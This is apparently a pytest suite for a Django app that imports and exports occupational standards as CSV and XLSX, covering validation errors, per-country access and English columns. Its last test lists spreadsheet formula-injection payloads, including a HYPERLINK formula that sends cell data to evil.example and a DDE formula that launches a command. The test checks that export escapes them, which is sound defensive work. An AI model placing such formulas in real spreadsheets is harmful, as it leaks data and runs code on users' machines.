"""Import and export of standards: good files import, bad files report every row
and column and import nothing; the admin upload is scoped to the officer."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from certification.interchange import (
    COLUMNS,
    ImportFailed,
    standards_export,
    standards_import,
)
from certification.models import (
    CompetencyUnit,
    EvidenceRequirement,
    FrameworkLevel,
    OccupationalStandard,
    PerformanceCriterion,
    QualificationFramework,
)
from certification.roles import officer_roles_sync
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

HEADER = COLUMNS
GOOD = [
    [
        "CL",
        "chilevalora",
        "STD-A",
        "1",
        "Editor/a",
        "publishing",
        "3",
        "2024-01-01",
        "",
        "https://example.org/std-a",
        "U1",
        "Planificar",
        "U1.1",
        "Define etapas",
        "product",
        "Plan de producción",
    ],
    [
        "CL",
        "chilevalora",
        "STD-A",
        "1",
        "Editor/a",
        "publishing",
        "3",
        "2024-01-01",
        "",
        "https://example.org/std-a",
        "U1",
        "Planificar",
        "U1.2",
        "Estima costos",
        "",
        "",
    ],
    [
        "CL",
        "chilevalora",
        "STD-A",
        "1",
        "Editor/a",
        "publishing",
        "3",
        "2024-01-01",
        "",
        "https://example.org/std-a",
        "U2",
        "Distribuir",
        "U2.1",
        "Elige canales",
        "knowledge",
        "Canales del libro",
    ],
    [
        "PE",
        "peru-mtpe",
        "STD-B",
        "2",
        "Luthier",
        "heritage",
        "",
        "",
        "",
        "",
        "L1",
        "Tallar",
        "",
        "",
        "",
        "",
    ],
]


@pytest.fixture
def chile_levels(db):
    framework = QualificationFramework.objects.create(
        code="cl-mctp", name="MCTP", country_id="CL"
    )
    for number in range(1, 6):
        FrameworkLevel.objects.create(framework=framework, number=number)


def as_csv(rows, delimiter=",") -> bytes:
    import csv

    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows([HEADER, *rows])
    return buffer.getvalue().encode("utf-8")


def as_xlsx(rows) -> bytes:
    workbook = Workbook()
    for row in [HEADER, *rows]:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def counts():
    return (
        OccupationalStandard.objects.count(),
        CompetencyUnit.objects.count(),
        PerformanceCriterion.objects.count(),
        EvidenceRequirement.objects.count(),
    )


@pytest.mark.parametrize(("maker", "name"), [(as_csv, "s.csv"), (as_xlsx, "s.xlsx")])
def test_a_good_file_imports_standards_units_and_criteria(chile_levels, maker, name):
    summary = standards_import(io.BytesIO(maker(GOOD)), name)
    assert (summary.standards, summary.units, summary.criteria) == (2, 3, 3)
    assert counts() == (2, 3, 3, 2)
    standard = OccupationalStandard.objects.get(code="STD-A")
    assert standard.level.number == 3
    assert str(standard.valid_from) == "2024-01-01"
    assert list(standard.units.values_list("code", flat=True)) == ["U1", "U2"]


def test_semicolon_separated_csv_is_read(chile_levels):
    standards_import(io.BytesIO(as_csv(GOOD, delimiter=";")), "s.csv")
    assert counts() == (2, 3, 3, 2)


def test_importing_the_same_file_twice_changes_nothing(chile_levels):
    standards_import(io.BytesIO(as_csv(GOOD)), "s.csv")
    standards_import(io.BytesIO(as_csv(GOOD)), "s.csv")
    assert counts() == (2, 3, 3, 2)


BAD = [
    GOOD[0],
    # row 3: unknown country and a bad date
    [
        "XX",
        "chilevalora",
        "STD-C",
        "1",
        "T",
        "publishing",
        "",
        "2024-13-01",
        "",
        "",
        "U1",
        "Unidad",
        "",
        "",
        "",
        "",
    ],
    # row 4: missing unit title, evidence kind without text
    [
        "CL",
        "chilevalora",
        "STD-A",
        "1",
        "Editor/a",
        "publishing",
        "3",
        "2024-01-01",
        "",
        "https://example.org/std-a",
        "U3",
        "",
        "",
        "",
        "product",
        "",
    ],
    # row 5: level that does not exist, a different title for the same standard
    [
        "CL",
        "chilevalora",
        "STD-A",
        "1",
        "Otro título",
        "publishing",
        "9",
        "2024-01-01",
        "",
        "https://example.org/std-a",
        "U1",
        "Planificar",
        "U1.9",
        "x",
        "",
        "",
    ],
]


@pytest.mark.parametrize(
    ("maker", "name"), [(as_csv, "bad.csv"), (as_xlsx, "bad.xlsx")]
)
def test_a_bad_file_reports_row_and_column_and_imports_nothing(
    chile_levels, maker, name
):
    with pytest.raises(ImportFailed) as caught:
        standards_import(io.BytesIO(maker(BAD)), name)
    found = {(e.row, e.column) for e in caught.value.errors}
    assert {
        (3, "country"),
        (3, "valid_from"),
        (4, "unit_title"),
        (4, "evidence_text"),
        (5, "level"),
        (5, "standard_title"),
    } <= found
    assert counts() == (0, 0, 0, 0)


def test_a_missing_required_column_is_reported_on_the_header_row(db):
    content = b"country,system\nCL,chilevalora\n"
    with pytest.raises(ImportFailed) as caught:
        standards_import(io.BytesIO(content), "s.csv")
    assert (1, "standard_code") in {(e.row, e.column) for e in caught.value.errors}


def test_export_round_trips_through_import(chile_levels):
    standards_import(io.BytesIO(as_csv(GOOD)), "s.csv")
    exported = standards_export(OccupationalStandard.objects.all(), "xlsx")
    rows = list(load_workbook(io.BytesIO(exported)).active.iter_rows(values_only=True))
    assert list(rows[0]) == COLUMNS
    OccupationalStandard.objects.all().delete()
    standards_import(io.BytesIO(exported), "again.xlsx")
    assert counts() == (2, 3, 3, 2)


def test_the_command_imports_a_good_file(chile_levels, tmp_path):
    path = tmp_path / "good.csv"
    path.write_bytes(as_csv(GOOD))
    call_command("import_standards", str(path))
    assert counts() == (2, 3, 3, 2)


def test_the_command_fails_on_a_bad_file_and_imports_nothing(chile_levels, tmp_path):
    path = tmp_path / "bad.xlsx"
    path.write_bytes(as_xlsx(BAD))
    stderr = io.StringIO()
    with pytest.raises(CommandError, match="no se importó nada"):
        call_command("import_standards", str(path), stderr=stderr)
    assert "fila 3, columna country" in stderr.getvalue()
    assert counts() == (0, 0, 0, 0)


def test_the_export_command_writes_csv(chile_levels, tmp_path):
    standards_import(io.BytesIO(as_csv(GOOD)), "s.csv")
    path = tmp_path / "out.csv"
    call_command("export_standards", str(path), "--country", "PE")
    text = path.read_text(encoding="utf-8-sig")
    assert "STD-B" in text and "STD-A" not in text


@pytest.fixture
def chile_officer(db):
    officer = UserFactory(username="officer-cl")
    officer.groups.add(officer_roles_sync()["CL"])
    return officer


def test_the_admin_upload_imports_a_good_file(client, chile_levels, chile_officer):
    client.force_login(chile_officer)
    rows = [r for r in GOOD if r[0] == "CL"]
    response = client.post(
        reverse("certification_admin:standards_import"),
        {"file": SimpleUploadedFile("s.csv", as_csv(rows))},
    )
    assert response.status_code == 302
    assert counts() == (1, 2, 3, 2)


def test_the_admin_upload_shows_each_error_and_imports_nothing(
    client, chile_levels, chile_officer
):
    client.force_login(chile_officer)
    response = client.post(
        reverse("certification_admin:standards_import"),
        {"file": SimpleUploadedFile("bad.xlsx", as_xlsx(BAD))},
    )
    assert response.status_code == 400
    assert {(e.row, e.column) for e in response.context["errors"]} >= {
        (3, "country"),
        (5, "level"),
    }
    assert counts() == (0, 0, 0, 0)


def test_an_officer_cannot_import_another_countrys_standards(
    client, chile_levels, chile_officer
):
    """The Peruvian row is refused with its row and column; nothing is imported."""
    client.force_login(chile_officer)
    response = client.post(
        reverse("certification_admin:standards_import"),
        {"file": SimpleUploadedFile("s.csv", as_csv(GOOD))},
    )
    assert response.status_code == 400
    assert (5, "country") in {(e.row, e.column) for e in response.context["errors"]}
    assert counts() == (0, 0, 0, 0)


def test_the_admin_export_lists_only_the_officers_country(
    client, chile_levels, chile_officer
):
    standards_import(io.BytesIO(as_csv(GOOD)), "s.csv")
    client.force_login(chile_officer)
    response = client.get(reverse("certification_admin:standards_export", args=["csv"]))
    text = response.content.decode("utf-8-sig")
    assert "STD-A" in text and "STD-B" not in text


ENGLISH = {
    "standard_title_en": "Publisher",
    "unit_title_en": "Plan",
    "criterion_text_en": "Defines stages",
    "evidence_text_en": "Production plan",
}


def _with_english(row: list[str], **values) -> list[str]:
    named = dict(zip(HEADER, row, strict=False))
    return [named.get(column, "") or values.get(column, "") for column in HEADER]


@pytest.mark.parametrize("maker,name", [(as_csv, "s.csv"), (as_xlsx, "s.xlsx")])
def test_the_english_columns_import_and_round_trip(chile_levels, maker, name):
    rows = [_with_english(GOOD[0], **ENGLISH), *GOOD[1:]]
    rows[1] = _with_english(
        rows[1], standard_title_en="Publisher", unit_title_en="Plan"
    )
    rows[2] = _with_english(rows[2], standard_title_en="Publisher")
    standards_import(io.BytesIO(maker(rows)), name)
    standard = OccupationalStandard.objects.get(code="STD-A")
    unit = standard.units.get(code="U1")
    assert (standard.title_en, unit.title_en) == ("Publisher", "Plan")
    assert unit.criteria.get(code="U1.1").text_en == "Defines stages"
    assert unit.evidence_requirements.get().description_en == "Production plan"
    exported = standards_export(OccupationalStandard.objects.all(), "csv")
    OccupationalStandard.objects.filter(code="STD-A").update(title_en="")
    PerformanceCriterion.objects.update(text_en="")
    standards_import(io.BytesIO(exported), "export.csv")
    assert OccupationalStandard.objects.get(code="STD-A").title_en == "Publisher"
    assert PerformanceCriterion.objects.get(code="U1.1").text_en == "Defines stages"
    assert counts() == (2, 3, 3, 2)


def test_a_file_without_english_columns_keeps_the_stored_translations(chile_levels):
    standards_import(io.BytesIO(as_csv([_with_english(GOOD[0], **ENGLISH)])), "s.csv")
    old_header = [c for c in HEADER if not c.endswith("_en")]
    buffer = io.StringIO()
    import csv

    csv.writer(buffer).writerows([old_header, GOOD[0]])
    standards_import(io.BytesIO(buffer.getvalue().encode()), "old.csv")
    assert OccupationalStandard.objects.get(code="STD-A").title_en == "Publisher"
    assert PerformanceCriterion.objects.get(code="U1.1").text_en == "Defines stages"


def test_english_text_without_its_spanish_text_is_an_error(chile_levels):
    row = _with_english(GOOD[3], criterion_text_en="Carves")
    with pytest.raises(ImportFailed) as failure:
        standards_import(io.BytesIO(as_csv([row])), "s.csv")
    assert [(e.row, e.column) for e in failure.value.errors] == [(2, "criterion_text")]
    assert counts() == (0, 0, 0, 0)


def test_rows_of_one_unit_must_agree_on_its_english_title(chile_levels):
    rows = [_with_english(GOOD[0], unit_title_en="Plan"), GOOD[1]]
    with pytest.raises(ImportFailed) as failure:
        standards_import(io.BytesIO(as_csv(rows)), "s.csv")
    assert [(e.row, e.column) for e in failure.value.errors] == [(3, "unit_title_en")]


FORMULA_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
]


@pytest.mark.parametrize("title", FORMULA_TITLES)
def test_a_formula_in_a_title_is_exported_as_text_and_imported_back(
    chile_levels, title
):
    """A title a spreadsheet would run is written with a leading apostrophe,
    as a text cell in XLSX; importing the export gives the title back."""
    row = [*GOOD[3][:4], title, *GOOD[3][5:]]
    standards_import(io.BytesIO(as_csv([row])), "s.csv")
    assert OccupationalStandard.objects.get().title == title.strip()

    exported_csv = standards_export(OccupationalStandard.objects.all(), "csv")
    import csv

    [header, cells] = list(csv.reader(io.StringIO(exported_csv.decode("utf-8-sig"))))
    assert cells[header.index("standard_title")] == "'" + title.strip()

    exported = standards_export(OccupationalStandard.objects.all(), "xlsx")
    sheet = load_workbook(io.BytesIO(exported)).active
    cell = sheet.cell(row=2, column=COLUMNS.index("standard_title") + 1)
    assert cell.data_type == "s"
    assert cell.value == "'" + title.strip()
    for cells in sheet.iter_rows():
        assert all(c.data_type != "f" for c in cells)

    OccupationalStandard.objects.all().delete()
    standards_import(io.BytesIO(exported), "again.xlsx")
    assert OccupationalStandard.objects.get().title == title.strip()
